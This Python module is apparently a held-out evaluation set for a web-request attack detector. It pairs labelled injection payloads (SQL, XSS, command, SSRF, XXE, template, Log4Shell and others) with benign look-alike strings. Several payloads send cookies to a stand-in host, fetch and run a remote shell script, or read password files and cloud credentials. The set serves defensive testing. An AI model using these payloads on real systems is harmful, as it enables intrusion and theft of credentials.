"""A hand-made, held-out detection set: attacks and benign look-alikes NOT from the corpus.

Written from attack-class knowledge (PayloadsAllTheThings-style payloads, public CVE
exploits) and from the kind of text real users type (product reviews, support tickets, code
snippets in forums, addresses). Each payload is placed in several request points by
`tests/detection/test_heldout.py`; the score is reported by that test.
"""

from __future__ import annotations

ATTACKS: tuple[tuple[str, str], ...] = (
    # sqli
    ("sqli", "' OR 'x'='x"),
    ("sqli", "admin'/**/OR/**/1=1#"),
    ("sqli", "1 AND (SELECT 4211 FROM (SELECT(SLEEP(5)))abc)"),
    ("sqli", "'; DROP TABLE customers; --"),
    ("sqli", "1' ORDER BY 7-- -"),
    ("sqli", "-5 UNION ALL SELECT NULL,CONCAT(user(),0x3a,version()),NULL-- x"),
    ("sqli", "1';WAITFOR DELAY '0:0:10'--"),
    ("sqli", "x' AND extractvalue(1,concat(0x7e,(select database())))-- "),
    ("sqli", "1 or pg_sleep(3)--"),
    ("sqli", "') or ('a'='a"),
    # xss
    ("xss", "<img src=x onerror=alert(document.domain)>"),
    ("xss", "<svg/onload=confirm`1`>"),
    ("xss", '"><iframe src=javascript:alert(1)>'),
    ("xss", "<details open ontoggle=print()>"),
    ("xss", "javascript:eval(atob('YWxlcnQoMSk='))"),
    ("xss", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("xss", "'-alert(1)-'"),
    ("xss", "<body onpageshow=alert(1)>"),
    ("xss", "%3Cscript%3Efetch('//evil.example/'+document.cookie)%3C/script%3E"),
    ("xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # rce
    ("rce", "| nslookup attacker.example"),
    ("rce", "$(curl -s http://203.0.113.9/x.sh | sh)"),
    ("rce", "; /usr/bin/id"),
    ("rce", "`whoami`"),
    ("rce", "127.0.0.1 | powershell -enc SQBFAFgA"),
    ("rce", "a;{cat,/etc/passwd}"),
    ("rce", "x && ping -c 3 192.0.2.1"),
    ("rce", "() { ignored; }; /bin/sh -c 'id'"),
    # path traversal
    ("path_traversal", "../../../../windows/win.ini"),
    ("path_traversal", "....//....//....//etc/passwd"),
    ("path_traversal", "..%2f..%2f..%2fetc%2fshadow"),
    ("path_traversal", "..\\..\\..\\boot.ini"),
    ("path_traversal", "/var/www/../../proc/self/environ"),
    # rfi
    ("rfi", "php://filter/convert.base64-encode/resource=index.php"),
    ("rfi", "http://203.0.113.7/shell.txt?"),
    # ssrf
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://localhost:6379/"),
    ("ssrf", "gopher://127.0.0.1:11211/_stats"),
    ("ssrf", "http://[::1]/admin"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    # xxe
    ("xxe", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>'),
    ("xxe", '<!DOCTYPE d SYSTEM "http://203.0.113.5/evil.dtd"><d/>'),
    # ssti
    ("ssti", "{{ self.__init__.__globals__.__builtins__ }}"),
    ("ssti", "${7*191}"),
    ("ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti", "#set($x=$class.inspect('java.lang.Runtime'))"),
    # ldapi
    ("ldapi", "*)(uid=*))(|(uid=*"),
    ("ldapi", "admin)(|(password=*))"),
    # nosqli
    ("nosqli", '{"$gt": ""}'),
    ("nosqli", "'; return this.password != ''; var x='"),
    ("nosqli", '{"username": {"$regex": "^adm"}}'),
    # log4shell
    ("log4shell", "${jndi:ldap://203.0.113.3:1389/a}"),
    ("log4shell", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}"),
    ("log4shell", "${${lower:J}${lower:N}${lower:D}I:rmi://x.example/o}"),
    # crlf
    ("crlf", "en%0d%0aLocation:%20https://evil.example"),
    ("crlf", "x%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK"),
    # mail injection
    ("mail_injection", "victim@example.com%0D%0ABcc:%20list@evil.example"),
    ("mail_injection", "x\r\nMAIL FROM:<a@evil.example>\r\n"),
    # ssi
    ("ssi", '<!--#include virtual="/etc/passwd" -->'),
    ("ssi", '<!--#echo var="DOCUMENT_ROOT" -->'),
    # php
    ("php_injection", "<?php system($_GET['c']); ?>"),
    ("php_injection", 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
    ("php_injection", "phpinfo();"),
    # java
    ("java", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("java", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("java", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    ("java", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
)

BENIGN: tuple[str, ...] = (
    "Great product, would buy again! 5/5",
    "O'Connor & Sons, 12 Main St., Apt. #4",
    "Please select the size you want from the drop-down, or call us.",
    "I'd like to update my order -- the one from last Tuesday.",
    "Use 'SELECT * FROM table' in the SQL console to see all rows",
    "The <b>bold</b> and <i>italic</i> tags are allowed in comments",
    "Our script runs every night at 2am; it cleans temp files",
    "cat & dog food, 2 x 5kg bags",
    "Meeting notes: drop the old table design; insert new charts",
    "Email me at jane.doe+shop@example.org or call +1 (555) 010-9999",
    "Price: $5 + $3 shipping = $8 total",
    "Rock & Roll Hall of Fame: 1 ticket (adult)",
    "Where is ../ used in a relative path? I'm learning HTML",
    "I think 3 < 5 and 7 > 2, right?",
    "https://www.example.com/products?id=42&ref=newsletter",
    "Looking for a sleep mask and ear plugs",
    "Ping me when the package ships; thanks!",
    "Java and JavaScript are different languages",
    "Where can I find the user's guide (PDF)?",
    "C:\\Users\\Public\\Documents\\invoice.pdf",
    "The union of two sets includes all elements",
    'She said "hello" and left; then the alarm rang.',
    "Copy-paste error: ${name} was not replaced in the template",
    "Order #12345 - delivered to the wrong address",
    "AND/OR gates are covered in chapter 3",
    "I love {{ curly braces }} in handlebars docs",
    "50% off -- today only!!!",
    "wget is a command line tool, curl is another",
    "Set the thermostat to 21 degrees; then leave",
    "My username is admin_bob and I forgot my password",
    "eval is evil, says Douglas Crockford",
    "Windows 10 / macOS 14 / Ubuntu 22.04",
    "Subject: refund request\nHello, I would like a refund.",
    "Dear support,\n\nthe app crashes when I open settings.\n\nRegards",
    "[quote]nice post[/quote] agreed!",
    "x = (a + b) * c / 2",
    "SELECT your favourite color FROM the list below",
    "He wrote: 'or else' and then 'and so on'",
    "https://cdn.example.net/img/logo.png?v=3",
    "# Heading\n* bullet one\n* bullet two",
)
